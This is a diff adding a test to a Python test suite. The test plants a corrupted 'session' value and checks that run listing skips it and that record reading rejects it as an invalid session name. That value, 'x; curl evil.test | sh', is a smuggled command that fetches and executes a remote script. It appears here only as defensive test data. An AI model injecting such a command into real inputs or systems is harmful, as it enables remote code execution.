@@ -65,6 +65,18 @@ async def test_a_world_of_another_form_is_damage_and_one_finding_of_a_list(lab: 
         rewrite(lab.tea, odd.run, begun_with(**{name: odd.state[name]}))
 
 
+async def test_a_session_that_no_run_has_is_one_finding_of_a_list(lab: Any) -> None:
+    lab.plays(plan_next=DONE)
+    odd, other = [await lab.tea.research.run("Why do cities grow?", mode="steering") for _ in range(2)]
+    rewrite(lab.tea, odd.run, lambda records: [{**one, "session": "x; curl evil.test | sh"} for one in records])
+    problems = list[str]()
+    found = [one.conversation for one in await lab.tea.research.list(problems)]
+    assert (other.conversation in found, any("curl" in one for one in found)) == (True, False)
+    assert any(odd.run in one for one in problems)
+    with pytest.raises(Damaged, match="it has a session whose name is not valid"):
+        list(lab.tea.tracer.records(odd.run))
+
+
 async def test_a_large_world_with_many_small_changes_is_read_in_little_memory(lab: Any) -> None:
     lab.plays(plan_next=DONE)
     run = (await lab.tea.research.run("Why do cities grow?", mode="steering")).run
